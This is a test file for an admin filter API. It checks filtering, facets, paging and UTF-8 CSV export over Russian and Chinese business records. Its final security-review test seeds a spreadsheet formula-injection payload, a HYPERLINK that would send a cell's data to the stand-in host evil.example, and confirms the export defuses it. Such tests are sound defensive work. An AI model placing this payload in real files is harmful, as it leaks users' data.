/**
 * The admin filter API (spec §7 `/app/admin/filter/*`, issue 7) on PGlite and PostgreSQL: each of
 * the six kinds returns EXACTLY the rows matching its filters (checked against the same rows
 * filtered here, in JavaScript), sorted and paged as asked; facet counts are those of the rows
 * matching every other filter; the CSV export holds every matching row (all pages) as UTF-8 with a
 * BOM, with Cyrillic and Chinese intact. Test rows carry a marker in their names, so `q=<marker>`
 * confines each check to them whatever else the database holds.
 */
import { parse } from "csv-parse/sync";
import { inArray, sql } from "drizzle-orm";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { seedRegions } from "#server/catalog/regions.ts";
import {
  companies,
  companyMembers,
  companyServices,
  legalEntities,
  products,
  serviceTypes,
  users,
  type CompanyStatus,
  type ProductStatus,
} from "#server/db/schema.ts";
import { openTestApi, type TestApi } from "../support/api.ts";
import { cleanupProfileData, createUser, TEST_DOMAIN, type TestUser } from "../support/profile.ts";

let api: TestApi;
let moderator: TestUser;
const marker = `flt${process.pid}${Date.now().toString(36)}`;
const ids = { companies: [] as number[], products: [] as number[], users: [] as number[], serviceType: 0 };

interface CompanySeed {
  status: CompanyStatus;
  country: "RU" | "CN";
  region: string;
  level: number;
  created: string;
  name: string;
}
const COMPANIES: CompanySeed[] = [
  { status: "published", country: "RU", region: "77", level: 2, created: "2025-01-10", name: `Альфа ${marker}` },
  { status: "published", country: "CN", region: "CN-21", level: 1, created: "2025-01-20", name: `辽中 ${marker}` },
  { status: "moderation", country: "CN", region: "CN-21", level: 0, created: "2025-02-05", name: `Бета ${marker}` },
  { status: "rejected", country: "RU", region: "66", level: 0, created: "2025-03-01", name: `Гамма ${marker}` },
  { status: "draft", country: "RU", region: "77", level: 0, created: "2025-03-15", name: `Дельта ${marker}` },
  { status: "blocked", country: "CN", region: "CN-23", level: 1, created: "2025-04-01", name: `Эпсилон ${marker}` },
  { status: "published", country: "RU", region: "66", level: 1, created: "2025-04-20", name: `Жёлудь ${marker}` },
];

interface ProductSeed {
  company: number;
  status: ProductStatus;
  pending: boolean;
  currency: "RUB" | "CNY" | null;
  price: string | null;
  name: string;
}
const PRODUCTS: ProductSeed[] = [
  { company: 0, status: "published", pending: false, currency: "RUB", price: "100.00", name: `Труба ${marker}` },
  { company: 0, status: "published", pending: true, currency: "RUB", price: "250.00", name: `Швеллер ${marker}` },
  { company: 1, status: "published", pending: false, currency: "CNY", price: "12.50", name: `钢管 ${marker}` },
  { company: 1, status: "moderation", pending: false, currency: "CNY", price: "8.00", name: `法兰 ${marker}` },
  { company: 2, status: "draft", pending: false, currency: null, price: null, name: `Уголок ${marker}` },
  { company: 3, status: "rejected", pending: false, currency: "RUB", price: "75.00", name: `Лист ${marker}` },
  { company: 6, status: "published", pending: true, currency: "RUB", price: "990.00", name: `Арматура ${marker}` },
  { company: 6, status: "blocked", pending: false, currency: "RUB", price: "5.00", name: `Проволока ${marker}` },
];

async function get(url: string) {
  const reply = await moderator.get(url);
  if (reply.status !== 200) throw new Error(`GET ${url} → ${reply.status} ${JSON.stringify(reply.body)}`);
  return reply.body as {
    data: { items: Record<string, any>[]; facets: Record<string, { value: string; count: number; label?: Record<string, string> }[]> };
    meta: { total: number; page: number; pages: number };
  };
}

/** Every page of a filter, concatenated. */
async function all(path: string): Promise<Record<string, any>[]> {
  const out: Record<string, any>[] = [];
  for (let page = 1; ; page++) {
    const body = await get(`${path}${path.includes("?") ? "&" : "?"}limit=3&page=${page}`);
    out.push(...body.data.items);
    if (page >= body.meta.pages) return out;
  }
}

function facet(body: Awaited<ReturnType<typeof get>>, name: string): Record<string, number> {
  return Object.fromEntries((body.data.facets[name] ?? []).map((f) => [f.value, f.count]));
}

function countBy<T>(rows: T[], key: (row: T) => string): Record<string, number> {
  const out: Record<string, number> = {};
  for (const row of rows) out[key(row)] = (out[key(row)] ?? 0) + 1;
  return out;
}

async function csv(
  path: string,
): Promise<{ bytes: Uint8Array; text: string; rows: Record<string, string>[]; total: string | null; type: string | null }> {
  const response = await api.app.request(path, { headers: { authorization: `Bearer ${moderator.token}` } });
  expect(response.status).toBe(200);
  const bytes = new Uint8Array(await response.arrayBuffer());
  // Decoded as it is on disk: the BOM kept (Response.text() would drop it).
  const text = new TextDecoder("utf-8", { ignoreBOM: true }).decode(bytes);
  return {
    bytes,
    text,
    rows: parse(text, { columns: true, bom: true }) as Record<string, string>[],
    total: response.headers.get("x-total-count"),
    type: response.headers.get("content-type"),
  };
}

beforeAll(async () => {
  api = await openTestApi();
  await cleanupProfileData(api);
  await seedRegions(api.db);
  moderator = await createUser(api, "filter-moderator", { role: "MODERATOR" });
  for (const seed of COMPANIES) {
    const [row] = await api.db
      .insert(companies)
      .values({
        name: { ru: seed.name, zh: `${seed.name} 公司` },
        status: seed.status,
        country: seed.country,
        regionCode: seed.region,
        verificationLevel: seed.level,
        createdAt: new Date(`${seed.created}T12:00:00Z`),
        updatedAt: new Date(`${seed.created}T12:00:00Z`),
      })
      .returning({ id: companies.id });
    ids.companies.push(row!.id);
  }
  for (const [i, seed] of PRODUCTS.entries()) {
    const [row] = await api.db
      .insert(products)
      .values({
        companyId: ids.companies[seed.company]!,
        name: { ru: seed.name },
        status: seed.status,
        priceFrom: seed.price,
        priceCurrency: seed.currency,
        pendingChanges: seed.pending ? { card: { name: { ru: `${seed.name} (новое)` }, sourceLang: "ru" } } : null,
        createdAt: new Date(Date.UTC(2025, 5, 1 + i)),
      })
      .returning({ id: products.id });
    ids.products.push(row!.id);
  }
  // Legal entities: INNs of region 77 and 66 (the first two digits), unique to this run.
  const stamp = String(Date.now()).slice(-6);
  await api.db.insert(legalEntities).values([
    { companyId: ids.companies[0]!, kind: "legal", inn: `77${stamp}01`, nameFull: `ООО «Альфа ${marker}»` },
    { companyId: ids.companies[3]!, kind: "legal", inn: `66${stamp}02`, nameFull: `ООО «Гамма ${marker}»` },
    { companyId: ids.companies[6]!, kind: "individual", inn: `66${stamp}0301`, nameFull: `ИП Жёлудев ${marker}` },
  ]);
  // People: roles, blocks, languages, companies.
  const people = [
    { last: `Иванов${marker}`, role: "USER", locale: "ru", blocked: false, company: 0, companyRole: "owner", status: "active" },
    { last: `Петров${marker}`, role: "USER", locale: "en", blocked: true, company: 0, companyRole: "member", status: "blocked" },
    { last: `王${marker}`, role: "USER", locale: "zh", blocked: false, company: 1, companyRole: "owner", status: "active" },
    { last: `Сидоров${marker}`, role: "MODERATOR", locale: "ru", blocked: false, company: null, companyRole: null, status: null },
    { last: `Смит${marker}`, role: "ADMIN", locale: "en", blocked: false, company: null, companyRole: null, status: null },
  ] as const;
  for (const [i, p] of people.entries()) {
    const [row] = await api.db
      .insert(users)
      .values({
        email: `person${i}.${marker}@${TEST_DOMAIN}`,
        firstName: "Тест",
        lastName: p.last,
        role: p.role,
        locale: p.locale,
        blockedAt: p.blocked ? new Date() : null,
        acceptedTermsAt: new Date(),
      })
      .returning({ id: users.id });
    ids.users.push(row!.id);
    if (p.company !== null)
      await api.db
        .insert(companyMembers)
        .values({ companyId: ids.companies[p.company]!, userId: row!.id, role: p.companyRole!, status: p.status! });
  }
  await api.db
    .insert(companyMembers)
    .values({ companyId: ids.companies[1]!, invitedEmail: `invitee.${marker}@${TEST_DOMAIN}`, role: "admin", status: "invited" });
  const [type] = await api.db
    .insert(serviceTypes)
    .values({ slug: `svc-${marker}`, name: { ru: `Услуга ${marker}` } })
    .returning({ id: serviceTypes.id });
  ids.serviceType = type!.id;
  await api.db.insert(companyServices).values([
    {
      companyId: ids.companies[0]!,
      serviceTypeId: type!.id,
      description: { ru: `Доставка ${marker}` },
      status: "published",
      priceFrom: "1000",
      currency: "RUB",
    },
    { companyId: ids.companies[1]!, serviceTypeId: type!.id, description: { ru: `Таможня ${marker}` }, status: "draft" },
    {
      companyId: ids.companies[6]!,
      serviceTypeId: type!.id,
      description: { ru: `Склад ${marker}` },
      status: "published",
      priceFrom: "500",
      currency: "RUB",
    },
  ]);
});

afterAll(async () => {
  if (!api) return;
  await api.db.delete(companies).where(inArray(companies.id, ids.companies));
  if (ids.serviceType) await api.db.delete(serviceTypes).where(sql`id = ${ids.serviceType}`);
  await cleanupProfileData(api);
  await api.close();
});

describe("companies", () => {
  test("q finds exactly the marked companies; status, country and region narrow them exactly", async () => {
    const everything = await all(`/app/admin/filter/company?q=${marker}`);
    expect(everything.map((r) => r.id).sort((a, b) => a - b)).toEqual([...ids.companies].sort((a, b) => a - b));
    const chosen = await all(`/app/admin/filter/company?q=${marker}&status=published&status=rejected&country=RU`);
    const expected = ids.companies.filter(
      (_, i) => ["published", "rejected"].includes(COMPANIES[i]!.status) && COMPANIES[i]!.country === "RU",
    );
    expect(chosen.map((r) => r.id).sort((a, b) => a - b)).toEqual(expected.sort((a, b) => a - b));
    const commas = await all(`/app/admin/filter/company?q=${marker}&status=published,rejected&country=RU`);
    expect(commas.map((r) => r.id).sort()).toEqual(chosen.map((r) => r.id).sort());
    const region = await all(`/app/admin/filter/company?q=${marker}&region=CN-21&verification=1`);
    expect(region.map((r) => r.id)).toEqual([ids.companies[1]]);
  });

  test("facets count each filter's values on the set filtered by the other filters", async () => {
    const body = await get(`/app/admin/filter/company?q=${marker}&status=published&country=RU`);
    const others = (i: number) => COMPANIES[i]!;
    const byCountry = COMPANIES.filter((c) => c.country === "RU");
    const byStatus = COMPANIES.filter((c) => c.status === "published");
    const both = COMPANIES.filter((c) => c.country === "RU" && c.status === "published");
    expect(facet(body, "status")).toEqual(countBy(byCountry, (c) => c.status));
    expect(facet(body, "country")).toEqual(countBy(byStatus, (c) => c.country));
    expect(facet(body, "region")).toEqual(countBy(both, (c) => c.region));
    expect(facet(body, "verification")).toEqual(countBy(both, (c) => String(c.level)));
    expect(body.meta.total).toBe(both.length);
    expect(body.data.facets.region!.find((f) => f.value === "77")?.label?.ru).toBe("Москва");
    expect(others(0).name).toContain(marker);
  });

  test("an INN finds its company; dates are inclusive days; sorting and paging are stable", async () => {
    const [entity] = await api.db
      .select()
      .from(legalEntities)
      .where(sql`company_id = ${ids.companies[0]!}`);
    expect((await all(`/app/admin/filter/company?q=${entity!.inn}`)).map((r) => r.id)).toEqual([ids.companies[0]]);
    const january = await all(`/app/admin/filter/company?q=${marker}&createdFrom=2025-01-10&createdTo=2025-01-20`);
    expect(january.map((r) => r.id).sort()).toEqual([ids.companies[0], ids.companies[1]].sort());
    // The test companies were last changed when they were made: the same days select the same rows.
    const changed = await all(`/app/admin/filter/company?q=${marker}&updatedFrom=2025-01-10&updatedTo=2025-01-20`);
    expect(changed.map((r) => r.id).sort()).toEqual([ids.companies[0], ids.companies[1]].sort());
    const byName = (await get(`/app/admin/filter/company?q=${marker}&sort=name&order=asc&limit=100`)).data.items.map((r) => r.name.ru);
    expect(byName).toEqual([...byName].sort((a, b) => a.localeCompare(b, "ru")));
    const page2 = await get(`/app/admin/filter/company?q=${marker}&sort=createdAt&order=asc&limit=2&page=2`);
    expect(page2.data.items.map((r) => r.id)).toEqual([ids.companies[2], ids.companies[3]]);
    expect(page2.meta).toMatchObject({ total: COMPANIES.length, page: 2, pages: Math.ceil(COMPANIES.length / 2) });
  });

  test("CSV holds every matching row (not one page), as UTF-8 with a BOM, Cyrillic and Chinese intact", async () => {
    const path = `/app/admin/filter/company?q=${marker}&status=published&limit=1&sort=id&order=asc`;
    const file = await csv(`${path}&format=csv`);
    expect(file.type).toBe("text/csv; charset=utf-8");
    expect([...file.bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(file.text.charCodeAt(0)).toBe(0xfeff);
    const expected = ids.companies.filter((_, i) => COMPANIES[i]!.status === "published");
    expect(file.rows.map((r) => Number(r.id))).toEqual(expected);
    expect(file.total).toBe(String(expected.length));
    expect(file.rows[0]).toMatchObject({
      name_ru: `Альфа ${marker}`,
      name_zh: `Альфа ${marker} 公司`,
      status: "published",
      country: "RU",
      region_code: "77",
    });
    expect(Object.keys(file.rows[0]!)).toContain("inn");
    const none = await csv(`/app/admin/filter/company?q=${marker}-nothing&format=csv`);
    expect(none.rows).toEqual([]);
    expect(
      none.text
        .replace(/^\ufeff/, "")
        .trim()
        .split(",")[0],
    ).toBe("id");
  });
});

describe("products", () => {
  test("status, pending changes and currency filter exactly; facets on the other filters", async () => {
    const body = await get(`/app/admin/filter/product?q=${marker}&status=published&pending=yes&limit=100`);
    const expected = PRODUCTS.map((p, i) => ({ ...p, id: ids.products[i]! })).filter((p) => p.status === "published" && p.pending);
    expect(body.data.items.map((r) => r.id).sort()).toEqual(expected.map((p) => p.id).sort());
    expect(body.data.items.every((r) => r.pending === true)).toBe(true);
    // The pending name is what the list shows (the moderator's working view).
    expect(body.data.items.map((r) => r.name.ru)).toContain(`Швеллер ${marker} (новое)`);
    expect(facet(body, "status")).toEqual(
      countBy(
        PRODUCTS.filter((p) => p.pending),
        (p) => p.status,
      ),
    );
    expect(facet(body, "pending")).toEqual(
      countBy(
        PRODUCTS.filter((p) => p.status === "published"),
        (p) => (p.pending ? "yes" : "no"),
      ),
    );
    const cny = await all(`/app/admin/filter/product?q=${marker}&currency=CNY`);
    expect(cny.map((r) => r.id).sort()).toEqual([ids.products[2], ids.products[3]].sort());
    const ofCompany = await all(`/app/admin/filter/product?company=${ids.companies[6]}`);
    expect(ofCompany.map((r) => r.id).sort()).toEqual([ids.products[6], ids.products[7]].sort());
    const cheapFirst = (await get(`/app/admin/filter/product?q=${marker}&sort=priceFrom&order=asc&limit=100`)).data.items.map(
      (r) => r.price_from,
    );
    const priced = cheapFirst.filter((p) => p !== null).map(Number);
    expect(priced).toEqual([...priced].sort((a, b) => a - b));
    expect(cheapFirst.at(-1)).toBeNull();
  });

  test("CSV of products equals the JSON pages", async () => {
    const path = `/app/admin/filter/product?q=${marker}&status=published,blocked&sort=id&order=desc`;
    const pages = await all(path);
    const file = await csv(`${path}&format=csv`);
    expect(file.rows.map((r) => Number(r.id))).toEqual(pages.map((r) => r.id));
    expect(file.rows.find((r) => Number(r.id) === ids.products[1])).toMatchObject({
      pending_changes: "yes",
      currency: "RUB",
      price_from: "250",
    });
  });
});

describe("users, employees, legal entities and services", () => {
  test("users by role, block and company; facets", async () => {
    const staff = await all(`/app/admin/filter/user?q=${marker}&role=MODERATOR,ADMIN`);
    expect(staff.map((r) => r.id).sort()).toEqual([ids.users[3], ids.users[4]].sort());
    const blocked = await get(`/app/admin/filter/user?q=${marker}&blocked=yes`);
    expect(blocked.data.items.map((r) => r.id)).toEqual([ids.users[1]]);
    expect(facet(blocked, "blocked")).toEqual({ yes: 1, no: 4 });
    expect(facet(blocked, "role")).toEqual({ USER: 1 });
    const withCompany = await get(`/app/admin/filter/user?q=${marker}&hasCompany=yes&locale=en`);
    expect(withCompany.data.items.map((r) => r.id)).toEqual([ids.users[1]]);
    expect(facet(withCompany, "locale")).toEqual({ ru: 1, en: 1, zh: 1 });
    const file = await csv(`/app/admin/filter/user?q=${marker}&format=csv&sort=id&order=asc`);
    expect(file.rows.map((r) => r.last_name)).toEqual([
      `Иванов${marker}`,
      `Петров${marker}`,
      `王${marker}`,
      `Сидоров${marker}`,
      `Смит${marker}`,
    ]);
  });

  test("employees, with open invitations, by status and role", async () => {
    const members = await get(`/app/admin/filter/employees?q=${marker}&limit=100`);
    expect(members.meta.total).toBe(4);
    expect(facet(members, "status")).toEqual({ active: 2, blocked: 1, invited: 1 });
    const owners = await all(`/app/admin/filter/employees?q=${marker}&role=owner`);
    expect(owners.map((r) => r.user_id).sort()).toEqual([ids.users[0], ids.users[2]].sort());
    const invited = await all(`/app/admin/filter/employees?q=${marker}&status=invited`);
    expect(invited).toHaveLength(1);
    expect(invited[0]).toMatchObject({ invited_email: `invitee.${marker}@${TEST_DOMAIN}`, role: "admin", user_id: null });
  });

  test("legal entities answer under both spellings, by kind and by the INN's region", async () => {
    const spec = await get(`/app/admin/filter/legal-entiries?q=${encodeURIComponent(marker)}&limit=100`);
    const correct = await get(`/app/admin/filter/legal-entities?q=${encodeURIComponent(marker)}&limit=100`);
    expect(spec.data.items.map((r) => r.id)).toEqual(correct.data.items.map((r) => r.id));
    expect(spec.meta.total).toBe(3);
    expect(facet(spec, "innRegion")).toEqual({ "66": 2, "77": 1 });
    expect(facet(spec, "kind")).toEqual({ legal: 2, individual: 1 });
    const sverdlovsk = await all(`/app/admin/filter/legal-entities?q=${encodeURIComponent(marker)}&innRegion=66&kind=legal`);
    expect(sverdlovsk.map((r) => r.name_full)).toEqual([`ООО «Гамма ${marker}»`]);
  });

  test("services by type and status", async () => {
    const body = await get(`/app/admin/filter/service?serviceType=${ids.serviceType}&status=published&limit=100`);
    expect(body.data.items.map((r) => r.company_id).sort()).toEqual([ids.companies[0], ids.companies[6]].sort());
    expect(facet(body, "status")).toEqual({ published: 2, draft: 1 });
    expect(body.data.facets.serviceType).toEqual([{ value: String(ids.serviceType), count: 2, label: { ru: `Услуга ${marker}` } }]);
    const text = await all(`/app/admin/filter/service?q=${encodeURIComponent(`Таможня ${marker}`)}`);
    expect(text.map((r) => r.company_id)).toEqual([ids.companies[1]]);
  });
});

describe("CSV exports (security review F4)", () => {
  test("a cell typed to look like a formula is exported as text, never as a formula", async () => {
    const formula = `=HYPERLINK("https://evil.example/?"&B2,"Open")`;
    await api.db.insert(users).values({
      email: `formula.${marker}@${TEST_DOMAIN}`,
      firstName: formula,
      lastName: `@SUM(1+1)${marker}`,
      role: "USER",
      locale: "ru",
      acceptedTermsAt: new Date(),
    });
    const file = await csv(`/app/admin/filter/user?q=${marker}&format=csv`);
    const row = file.rows.find((r) => r.last_name === `'@SUM(1+1)${marker}`);
    expect(row, file.text).toBeDefined();
    expect(row!.first_name).toBe(`'${formula}`);
    for (const r of file.rows) for (const value of Object.values(r)) expect(value).not.toMatch(/^[=+\-@\t\r]/);
  });
});
